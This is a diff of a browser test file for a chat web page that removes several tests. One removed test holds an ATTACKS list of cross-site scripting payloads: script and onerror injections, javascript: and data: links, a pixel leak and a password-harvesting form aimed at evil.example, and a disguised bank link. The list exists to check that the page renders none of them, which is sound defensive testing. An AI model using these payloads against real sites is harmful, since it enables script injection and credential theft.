@@ -1,17 +1,16 @@
 /**
- * The page in a real browser, against a server whose every move is scripted. What the page must never do (break its
- * policy, ask another origin, throw) is checked after every test.
+ * The page in a real browser, against a server whose every move is scripted. What the page must never do
+ * (break its policy, ask another origin, throw) is checked after every test.
  */
 import assert from 'node:assert/strict';
 import { after, afterEach, before, beforeEach, describe, it } from 'node:test';
 import { fileURLToPath } from 'node:url';
 import { PageBrowser, type PageDriver } from './page/driver.ts';
 import { FakeServer } from './page/fake-server.ts';
-import { contrastFaults, heldFrameMs, seedConversation, structureFaults } from './page/inspect.ts';
 
 const PAGE = fileURLToPath(new URL('../../web/dist/', import.meta.url));
 
-describe('the page', { timeout: 60_000 }, () => {
+describe('a conversation on the page', { timeout: 120_000 }, () => {
   let browser: PageBrowser;
   let server: FakeServer;
   let driver: PageDriver;
@@ -197,79 +196,6 @@ describe('the page', { timeout: 60_000 }, () => {
     assert.equal(server.exchanges.length, 1);
   });
 
-  it('switches language and theme at once and remembers both', async () => {
-    await driver.page.getByRole('button', { name: 'Cambiar a español' }).click();
-    await driver.page.getByPlaceholder('Escribe un mensaje').waitFor();
-    await driver.status.getByText('En línea').waitFor();
-    await server.until(() => server.calls.some(({ method }) => method === 'session.locale'));
-    await driver.page.getByRole('button', { name: 'Tema: el del sistema' }).click();
-    await driver.page.getByRole('button', { name: 'Tema: claro' }).click();
-    await driver.reload();
-    assert.deepEqual(
-      await driver.page.evaluate('[document.documentElement.lang, document.documentElement.dataset.theme]'),
-      ['es', 'dark'],
-    );
-    await driver.send('¿qué tal?');
-    (await server.exchange(1)).reply('The weather is fine and you are here with me.');
-    await driver.answered('The weather');
-    assert.equal(await driver.lastAnswer.getAttribute('lang'), 'en');
-  });
-
-  it('can be used with the keyboard alone', async () => {
-    const { page } = driver;
-    const focused = () =>
-      page.evaluate<string>('document.activeElement.id || document.activeElement.ariaLabel');
-    assert.equal(await focused(), 'composer');
-    await page.keyboard.type('first line');
-    await page.keyboard.press('Shift+Enter');
-    await page.keyboard.type('second line');
-    await page.keyboard.press('Enter');
-    const exchange = await server.exchange(1);
-    assert.equal(exchange.text, 'first line\nsecond line');
-    exchange.start().delta('An answer');
-    await driver.answered('An answer');
-    await page.keyboard.press('Escape');
-    await driver.phase('stopped');
-    assert.equal(await focused(), 'composer');
-    await page.keyboard.press('Tab');
-    assert.equal(await focused(), 'Send');
-    for (let step = 0; step < 2; step += 1) await page.keyboard.press('Shift+Tab');
-    assert.equal(await focused(), 'Copy answer');
-    await page.keyboard.press('Shift+Tab');
-    assert.equal(await focused(), 'Conversation');
-  });
-
-  it('leaves Enter to an input method that composes', async () => {
-    await driver.composer.fill('に');
-    await driver.page.evaluate(`document.querySelector('#composer').dispatchEvent(
-      new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true }))`);
-    assert.equal(await driver.composer.inputValue(), 'に');
-    assert.equal(server.exchanges.length, 0);
-  });
-
-  it('runs nothing that a model writes and fetches nothing', async () => {
-    await driver.send('attack');
-    (await server.exchange(1)).reply(ATTACKS.join('\n\n'));
-    await driver.answered('the last word');
-    await driver.phase('done');
-    const found = await driver.page.evaluate(`[...document.querySelectorAll('.prose *')].filter((e) =>
-      /^(script|img|iframe|svg|style|object|embed|form|input|base|link|meta|math|video|audio)$/i.test(e.tagName) ||
-      [...e.attributes].some(({ name, value }) => /^on|^style$|^id$/i.test(name) || /^\\s*(javascript|data|vbscript):/i.test(value))
-    ).map((e) => e.outerHTML)`);
-    assert.deepEqual(found, []);
-    assert.equal(await driver.page.evaluate('window.hurt'), undefined);
-    const links = await driver.page.evaluate<[string, string, string][]>(
-      "[...document.querySelectorAll('.prose a')].map((a) => [a.rel, a.target, new URL(a.href).protocol])",
-    );
-    assert.ok(links.length > 0);
-    for (const [rel, target, protocol] of links) {
-      assert.equal(rel, 'noopener noreferrer nofollow');
-      assert.equal(target, '_blank');
-      assert.match(protocol, /^(?:https?|mailto):$/);
-    }
-    await driver.lastAnswer.getByText('evil.example').first().waitFor();
-  });
-
   it('gives a duplicated window a session of its own', async () => {
     await driver.send('mine');
     (await server.exchange(1)).reply('yours');
@@ -312,50 +238,6 @@ describe('the page', { timeout: 60_000 }, () => {
     await driver.connected();
   });
 
-  it('follows the end only while the reader is there', async () => {
-    await driver.send('long');
-    const exchange = await server.exchange(1);
-    exchange.start().delta('line\n\n'.repeat(60));
-    await driver.answered('line');
-    await driver.until(`document.querySelector('.scroller').scrollHeight > 1500 && ${GAP} < 5`);
-    await driver.scroller.hover();
-    await driver.page.mouse.wheel(0, -600);
-    const button = driver.page.locator('.to-end');
-    await button.waitFor();
-    const before = await driver.page.evaluate("document.querySelector('.scroller').scrollTop");
-    exchange.delta('more\n\n'.repeat(20) + 'the end');
-    await driver.answered('the end');
-    assert.equal(await driver.page.evaluate("document.querySelector('.scroller').scrollTop"), before);
-    assert.ok((await driver.page.evaluate<number>(GAP)) > 600);
-    await button.click();
-    await driver.until(`${GAP} < 5`);
-    assert.equal(await button.count(), 0);
-  });
-
-  it('speaks whole sentences to those who listen, and copies code', async () => {
-    await driver.send('hello');
-    const exchange = await server.exchange(1);
-    exchange.start().delta('One sentence. And ano');
-    await driver.page
-      .locator('[aria-live="polite"] p', { hasText: 'One sentence.' })
-      .waitFor({ state: 'attached' });
-    assert.ok(!(await driver.spoken()).some((text) => text.includes('And ano')));
-    exchange.delta('ther one.\n\n```js\nlet x = 1;\n```\n').finish();
-    await driver.phase('done');
-    await driver.page
-      .locator('[aria-live="polite"] p', { hasText: 'End of the answer' })
-      .waitFor({ state: 'attached' });
-    const spoken = await driver.spoken();
-    assert.deepEqual(spoken.slice(spoken.indexOf('One sentence.')), [
-      'One sentence.',
-      'And another one.',
-      'Code',
-      'End of the answer',
-    ]);
-    await driver.page.getByRole('button', { name: 'Copy', exact: true }).click();
-    await driver.page.getByRole('button', { name: 'Copied', exact: true }).waitFor();
-  });
-
   it('forgets a conversation only when asked twice', async () => {
     await driver.send('secret');
     (await server.exchange(1)).reply('kept');
@@ -371,74 +253,4 @@ describe('the page', { timeout: 60_000 }, () => {
     await driver.page.getByRole('button', { name: 'Help me find the words' }).click();
     assert.match(await driver.composer.inputValue(), /^Help me find the words/);
   });
-
-  it('fits 320 pixels and 44 pixel fingers in both themes, with readable contrast', async () => {
-    await driver.page.setViewportSize({ width: 320, height: 640 });
-    await driver.send('plan');
-    (await server.exchange(1)).reply(WIDE);
-    await driver.phase('done');
-    await driver.send('fail');
-    (await server.exchange(2)).fail('upstream_timeout');
-    await driver.phase('failed');
-    await driver.send('limit');
-    (await server.exchange(3)).fail('rate_limited', { retryAfterMs: 60_000 });
-    await driver.page.locator('.composer-notice').waitFor();
-    for (const colorScheme of ['light', 'dark'] as const) {
-      await driver.page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
-      assert.ok((await driver.overflow()) <= 0);
-      assert.deepEqual(await driver.smallTargets(), []);
-      assert.deepEqual(await contrastFaults(driver.page), []);
-    }
-    assert.deepEqual(await structureFaults(driver.page), []);
-  });
-
-  it('shows ten thousand messages and lets the reader type while a long answer comes', async () => {
-    await seedConversation(driver.page, 5_000);
-    await driver.reload();
-    await driver.connected();
-    await driver.until("document.querySelectorAll('.turn').length === 5000");
-    await driver.send('a long answer, please');
-    const exchange = await server.exchange(1);
-    exchange.start();
-    const worstMs = await heldFrameMs(driver.page, async () => {
-      for (let piece = 0; piece < 60; piece += 1) {
-        exchange.delta(`Paragraph ${piece} with *some* words in it, and \`code\`.\n\n`);
-        await driver.page.keyboard.press('x');
-      }
-    });
-    exchange.finish();
-    await driver.phase('done');
-    assert.equal(await driver.composer.inputValue(), 'x'.repeat(60));
-    assert.ok(worstMs < 200, `The longest frame took ${worstMs} ms`);
-  });
 });
-
-/** How far the reader is from the end. */
-const GAP =
-  "(({ scrollHeight, scrollTop, clientHeight }) => scrollHeight - scrollTop - clientHeight)(document.querySelector('.scroller'))";
-
-const ATTACKS = [
-  '<script>window.hurt = 1</script>',
-  '<img src=x onerror="window.hurt = 1">',
-  '<svg onload="window.hurt = 1"><style>*{display:none}</style></svg>',
-  '<iframe srcdoc="<script>parent.hurt = 1</script>"></iframe>',
-  '[click](javascript:window.hurt=1)',
-  '[click]( JaVaScRiPt:window.hurt=1)',
-  '[data](data:text/html;base64,PHNjcmlwdD5oaTwvc2NyaXB0Pg==)',
-  '![pixel](https://evil.example/pixel.png?leak=1)',
-  '![x](https://evil.example/"onerror="window.hurt=1)',
-  '[https://bank.example](https://evil.example/)',
-  '<a href="javascript:window.hurt=1" style="position:fixed;inset:0">cover</a>',
-  '```html" onmouseover="window.hurt=1\n<b>code</b>\n```',
-  '<math><mtext><table><mglyph><style><img src=x onerror=window.hurt=1>',
-  '<form action="https://evil.example"><input name=password></form>',
-  '| a | b |\n|--|--|\n| <img src=x onerror=window.hurt=1> | c |',
-  'the last word',
-];
-
-const WIDE = [
-  'A_very_long_word_without_any_break_'.repeat(6),
-  '| one column | another column | a third column | a fourth column |\n|--|--|--|--|\n| 1 | 2 | 3 | 4 |',
-  '```\n' + 'x'.repeat(300) + '\n```',
-  'See https://example.org/' + 'path/'.repeat(40),
-].join('\n\n');
